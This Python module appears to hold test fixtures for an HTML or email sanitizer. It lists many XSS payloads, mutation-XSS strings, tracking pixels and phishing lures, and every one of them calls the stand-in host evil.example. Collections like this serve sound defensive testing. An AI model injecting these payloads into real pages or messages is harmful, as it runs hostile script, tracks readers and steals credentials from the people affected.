"""HTML that wants to run a script, to tell somebody that it was read, or to leave its frame.

Each sends a request to evil.example where it succeeds. `RUN` is the script of those that want one.
"""

RUN = "(new Image).src=`http://evil.example/ran`"
CALM = "<p>Good morning, the printer is broken.</p>"

_ENTITIES = "".join(f"&#{ord(c)};" for c in f"javascript:{RUN}")
_HEX = "".join(f"&#x{ord(c):x}" for c in f"javascript:{RUN}")
_SVG = f"<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>"
_BASE64_PAGE = "PHNjcmlwdD4obmV3IEltYWdlKS5zcmM9J2h0dHA6Ly9ldmlsLmV4YW1wbGUvcmFuJzwvc2NyaXB0Pg=="
_FOCUS = f"autofocus tabindex=1 onfocus='{RUN}'"

# ---- what runs by itself
SCRIPTS = {
    "script": f"<script>{RUN}</script>",
    "script in odd case": f"<ScRiPt >{RUN}</sCrIpT >",
    "script from elsewhere": "<script src=http://evil.example/s.js></script>",
    "script from elsewhere, scheme of the page": "<script src=//evil.example/s.js></script>",
    "module": "<script type=module>import 'http://evil.example/m.js'</script>",
    "script never closed": f"<script>{RUN}//",
    "script with a slash for a space": "<script/x src=http://evil.example/s.js></script>",
    "script in two": f"<scr<script>ipt>{RUN}</script>",
    "script after a NUL": f"<scr\0ipt>{RUN}</script><script\0>{RUN}</script>",
    "import map": '<script type=importmap>{"imports":{"a":"http://evil.example/a.js"}}</script>'
    "<script type=module>import 'a'</script>",
    "speculation rules": "<script type=speculationrules>"
    '{"prefetch":[{"source":"list","urls":["http://evil.example/p"]}]}</script>',
    "img onerror": f'<img src=x onerror="{RUN}">',
    "img onerror without spaces": f"<img/src=x/onerror={RUN}>",
    "img onerror as entities": "<img src=x onerror=\"&#40new Image&#41.src='http://evil.example/ran'\">",
    "img in a broken attribute": f'<img """><script>{RUN}</script>">',
    "body onload": f'<body onload="{RUN}">',
    "body onpageshow": f'<body onpageshow="{RUN}">',
    "svg onload": f'<svg onload="{RUN}"></svg>',
    "svg script": f"<svg><script>{RUN}</script></svg>",
    "svg script by address": "<svg><script href='http://evil.example/s.js'></script></svg>",
    "svg animation": f'<svg><animate onbegin="{RUN}" attributeName=x dur=1s></svg>',
    "svg set": f'<svg><set onbegin="{RUN}" attributeName=x dur=1s></svg>',
    "svg foreignObject": f'<svg><foreignObject><img src=x onerror="{RUN}"></foreignObject></svg>',
    "svg use": '<svg><use href="http://evil.example/u.svg#x"></use></svg>',
    "svg image": '<svg><image xlink:href="http://evil.example/i.png"></image></svg>',
    "svg filter": '<svg><filter id=f><feImage href="http://evil.example/f.png"/></filter>'
    "<rect width=9 height=9 filter=url(#f) /></svg>",
    "math link": f'<math><maction actiontype=statusline xlink:href="javascript:{RUN}">x</maction>'
    "</math>",
    "input autofocus": f"<input {_FOCUS}>",
    "select autofocus": f"<select {_FOCUS}></select>",
    "textarea autofocus": f"<textarea {_FOCUS}></textarea>",
    "link autofocus": f"<a href=# {_FOCUS}>x</a>",
    "marquee": f'<marquee loop=1 width=0 onstart="{RUN}">x</marquee>',
    "details ontoggle": f'<details open ontoggle="{RUN}">x</details>',
    "video source onerror": f'<video><source onerror="{RUN}" src=x></video>',
    "audio onerror": f'<audio src=x onerror="{RUN}"></audio>',
    "object onerror": f'<object data=x onerror="{RUN}"></object>',
    "style onload": f'<style onload="{RUN}"></style>',
    "animation end": "<style>@keyframes k{from{left:0}to{left:1px}}</style>"
    f'<p style="animation:k .01s" onanimationend="{RUN}">x</p>',
    "iframe srcdoc": f'<iframe srcdoc="<script>{RUN}</script>"></iframe>',
    "iframe srcdoc as entities": "<iframe srcdoc=\"&lt;script&gt;(new Image).src='http://evil.example"
    "/ran'&lt;/script&gt;\"></iframe>",
    "iframe javascript": f'<iframe src="javascript:{RUN}"></iframe>',
    "iframe javascript as entities": f'<iframe src="{_ENTITIES}"></iframe>',
    "iframe javascript as hex": f'<iframe src="{_HEX}"></iframe>',
    "iframe javascript with a tab": f'<iframe src="java\tscript:{RUN}"></iframe>',
    "iframe javascript with a line": f'<iframe src="jav&#x0A;ascript:{RUN}"></iframe>',
    "iframe javascript after controls": f'<iframe src=" &#14; javascript:{RUN}"></iframe>',
    "iframe data": f'<iframe src="data:text/html;base64,{_BASE64_PAGE}"></iframe>',
    "embed data": f'<embed src="data:image/svg+xml,{_SVG}">',
    "object data": f'<object data="data:text/html;base64,{_BASE64_PAGE}"></object>',
    "template": f'<template shadowrootmode=open><img src=x onerror="{RUN}"></template>',
    "shadow root and slot": "<div><template shadowrootmode=open><style>@import "
    "'http://evil.example/c.css'</style><slot></slot></template>x</div>",
    "conditional comment": f"<!--[if gte IE 4]><script>{RUN}</script><![endif]-->"
    f"<!--[if !IE]><!--><script>{RUN}</script><!--<![endif]-->",
    "comment that ends early": f"<!--><script>{RUN}</script>-->",
    "comment that ends with a bang": f"<!-- --!><script>{RUN}</script> -->",
    "CDATA": f'<svg><![CDATA[><img src=x onerror="{RUN}">]]></svg>',
    "xml data island": f'<xml><i><b><img src=x onerror="{RUN}"></b></i></xml>',
}

# ---- what is harmless until it is read a second time (mXSS)
MUTATIONS = {
    "noscript": f"<noscript><p title=\"</noscript><img src=x onerror='{RUN}'>\"></noscript>",
    "style in svg": f"<svg></p><style><a id=\"</style><img src=x onerror='{RUN}'>\">",
    "style in math": f'<math></p><style><!--</style><img src=x onerror="{RUN}">--></math>',
    "mglyph": f'<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="{RUN}">',
    "mtext in a table": "<math><mtext><table><mglyph><style><!--</style>"
    f'<img title="--&gt;&lt;img src=x onerror={RUN}&gt;">',
    "title in svg": f"<svg><title><style><img src=\"</style><img src=x onerror='{RUN}'>\">",
    "desc in svg": f"<svg><desc><noscript><p id=\"</noscript><img src=x onerror='{RUN}'>\">",
    "annotation-xml": '<math><annotation-xml encoding="text/html"><style><a title="</style>'
    f"<img src=x onerror='{RUN}'>\"></annotation-xml></math>",
    "textarea": f"<textarea><p title=\"</textarea><img src=x onerror='{RUN}'>\">",
    "noembed": f"<noembed><p title=\"</noembed><img src=x onerror='{RUN}'>\"></noembed>",
    "xmp": f"<xmp><p title=\"</xmp><img src=x onerror='{RUN}'>\"></xmp>",
    "noframes": f"<noframes><p title=\"</noframes><img src=x onerror='{RUN}'>\"></noframes>",
    "iframe with text": f"<iframe><p title=\"</iframe><img src=x onerror='{RUN}'>\"></iframe>",
    "backtick": f'<img src="x` `<script>{RUN}</script>"` `>',
    "picture in an attribute": f'<b title="<img alt=">x" b="</b><i title=" onerror={RUN} x=">y</i>',
    "template in a template": f'<template><template></template><img src=x onerror="{RUN}">'
    "</template>"
    f'<img src=x onerror="{RUN}">',
    "plaintext in svg": f'<svg><plaintext></svg><img src=x onerror="{RUN}">',
}

# ---- what tells that it was read
TRACKERS = {
    "picture": "<img src=http://evil.example/pixel.gif width=1 height=1>",
    "picture, scheme of the page": "<img src=//evil.example/pixel.gif>",
    "picture with a backslash": "<img src=http:\\\\evil.example\\pixel.gif>",
    "picture after a space": '<img src=" &#9;http://evil.example/pixel.gif">',
    "srcset": '<img srcset="http://evil.example/a.png 1x, http://evil.example/b.png 2x">',
    "srcset beside cid": "<img src=cid:shot srcset=http://evil.example/a.png>",
    "picture element": "<picture><source srcset=http://evil.example/a.png><img src=cid:shot>"
    "</picture>",
    "lowsrc and dynsrc": "<img lowsrc=http://evil.example/a dynsrc=http://evil.example/b>",
    "image tag": "<image src=http://evil.example/a.png>",
    "input image": "<input type=image src=http://evil.example/a.png>",
    "background of the body": "<body background=http://evil.example/a.png>x",
    "background of a table": "<table background=http://evil.example/a.png><tr><td "
    "background=http://evil.example/b.png>x</table>",
    "style background": '<p style="background:url(http://evil.example/a.png)">x</p>',
    "style background, escaped": '<p style="background:\\75\\72\\6c(http://evil.example/a.png)">x</p>',
    "style background, commented": "<p style=\"background/**/:url(/**/'http://evil.example/a')\">x</p>",
    "style background after a fine one": '<p style="color:red;background-image:url('
    '&quot;http://evil.example/a.png&quot;)">x</p>',
    "style image-set": "<p style=\"background:image-set('http://evil.example/a.png' 1x)\">x</p>",
    "style list": '<li style="list-style-image:url(http://evil.example/a.png)">x</li>',
    "style cursor and content": '<p style="cursor:url(http://evil.example/c.cur),auto;'
    'content:url(http://evil.example/c.png)">x</p>',
    "style border": '<p style="border:9px solid;border-image:url(http://evil.example/b.png)">x</p>',
    "style mask and filter": '<p style="mask:url(http://evil.example/m.svg#m);'
    'filter:url(http://evil.example/f.svg#f)">x</p>',
    "style variable": '<p style="--a:url(http://evil.example/v.png);background:var(--a)">x</p>',
    "style expression": f'<p style="width:expression({RUN})">x</p>',
    "style binding": '<p style="-moz-binding:url(http://evil.example/x.xml#x);'
    'behavior:url(http://evil.example/x.htc)">x</p>',
    "style sheet": "<style>body{background:url(http://evil.example/a.png)}</style>",
    "style sheet with import": "<style>@import url(http://evil.example/c.css);</style>",
    "style sheet with import, escaped": "<style>@\\69mport 'http://evil.example/c.css';</style>",
    "style sheet with a font": "<style>@font-face{font-family:f;src:url(http://evil.example/f.woff)}"
    "p{font-family:f}</style><p>x</p>",
    "style sheet that asks": "<style>a[href^='http']{background:url(http://evil.example/h)}</style>"
    "<a href=http://fine.example>x</a>",
    "link to a style sheet": "<link rel=stylesheet href=http://evil.example/c.css>",
    "link preload": "<link rel=preload as=image href=http://evil.example/a.png>",
    "link modulepreload": "<link rel=modulepreload href=http://evil.example/a.js>",
    "link prefetch": "<link rel=prefetch href=http://evil.example/a>",
    "link prerender": "<link rel=prerender href=http://evil.example/a>",
    "link dns-prefetch": "<link rel=dns-prefetch href=//evil.example>",
    "link preconnect": "<link rel=preconnect href=http://evil.example>",
    "link icon": "<link rel=icon href=http://evil.example/i.png>",
    "link manifest": "<link rel=manifest href=http://evil.example/m.json>",
    "link to be guessed": "<meta http-equiv=x-dns-prefetch-control content=on>"
    "<a href=http://evil.example/>x</a>",
    "video poster": "<video poster=http://evil.example/p.png></video>",
    "video": "<video src=http://evil.example/v.mp4 autoplay muted></video>",
    "video source": "<video autoplay muted><source src=http://evil.example/v.mp4></video>",
    "video track": "<video src=cid:shot><track default src=http://evil.example/t.vtt></video>",
    "audio": "<audio src=http://evil.example/a.mp3 autoplay></audio>",
    "background sound": "<bgsound src=http://evil.example/a.wav>",
    "iframe": "<iframe src=http://evil.example/></iframe>",
    "frameset": "<frameset><frame src=http://evil.example/></frameset>",
    "object": "<object data=http://evil.example/o.swf></object>",
    "object parameter": "<object type=text/html><param name=src value=http://evil.example/></object>",
    "embed": "<embed src=http://evil.example/e>",
    "applet": "<applet code=a archive=http://evil.example/a.jar></applet>",
    "base": "<base href=http://evil.example/><img src=pixel.gif><link rel=stylesheet href=c.css>",
    "base for the pictures of the mail": "<base href=http://evil.example/><img src=cid:shot>",
    "meta refresh": '<meta http-equiv=refresh content="0;url=http://evil.example/">',
    "meta refresh to a script": f'<meta http-equiv=refresh content="0;url=javascript:{RUN}">',
    "meta that loosens the policy": '<meta http-equiv=Content-Security-Policy content="img-src *">'
    "<img src=http://evil.example/a.png>",
    "html manifest": "<html manifest=http://evil.example/m><body>x",
    "cid that goes up": '<img src="cid:../../../../evil.example/a">',
    "cid in a cid": '<img src="cid:cid:http://evil.example/a">',
    "cid with a host": '<img src="cid://evil.example/a.png">',
    "cid and a quote": '<img src=\'cid:shot" onerror="(new Image).src="http://evil.example/ran\'>',
    "cid as a link": "<a href=cid:shot ping=http://evil.example/ping>x</a>",
    "tracker in a table in a quote": "<blockquote><table><tr><td><img src=http://evil.example/p>"
    "</td></tr></table></blockquote>",
}

# ---- what waits for a click, or takes the place of what is ours
LURES = {
    "link javascript": f'<a class=lure href="javascript:{RUN}">x</a>',
    "link javascript in odd case": f'<a href="JaVaScRiPt:{RUN}">x</a>',
    "link javascript as entities": f'<a href="{_ENTITIES}">x</a>',
    "link javascript with a tab": f'<a href="java&Tab;script&colon;{RUN}">x</a>',
    "link javascript with a line": f'<a href="java\nscript:{RUN}">x</a>',
    "link vbscript": '<a href="vbscript:msgbox(1)">x</a>',
    "link data": f'<a href="data:text/html;base64,{_BASE64_PAGE}">x</a>',
    "link blob": '<a href="blob:http://evil.example/x">x</a>',
    "link with a ping": "<a href=# ping=http://evil.example/ping>x</a>",
    "link in svg": f'<svg><a xlink:href="javascript:{RUN}"><text y=20>x</text></a></svg>',
    "link by math": f'<math href="javascript:{RUN}">x</math>',
    "relative link": '<a href="../../../../healthz">x</a>',
    "form": "<form action=http://evil.example/ method=post><input name=password>"
    "<button>Log in</button></form>",
    "form from outside": "<form id=f action=http://evil.example/></form><button form=f>x</button>",
    "button with an address of its own": f'<form><button formaction="javascript:{RUN}">x</button>'
    "<input type=submit formaction=http://evil.example/></form>",
    "isindex": f'<isindex type=image src=http://evil.example/a action="javascript:{RUN}">',
    "a layer over all": '<div style="position:fixed;inset:0;z-index:9999"><a '
    "href=http://evil.example/>Accept</a></div>",
    "area": f'<map name=m><area shape=rect coords=0,0,99,99 href="javascript:{RUN}"></map>'
    "<img usemap=#m src=cid:shot>",
    "dialog": "<dialog open>Your session has ended</dialog>",
    "popover and invoker": f'<div popover id=p onbeforetoggle="{RUN}">x</div>'
    "<button popovertarget=p>x</button>",
}

EVERY = {
    f"{kind}: {name}": html
    for kind, table in (
        ("script", SCRIPTS),
        ("mutation", MUTATIONS),
        ("tracker", TRACKERS),
        ("lure", LURES),
    )
    for name, html in table.items()
}
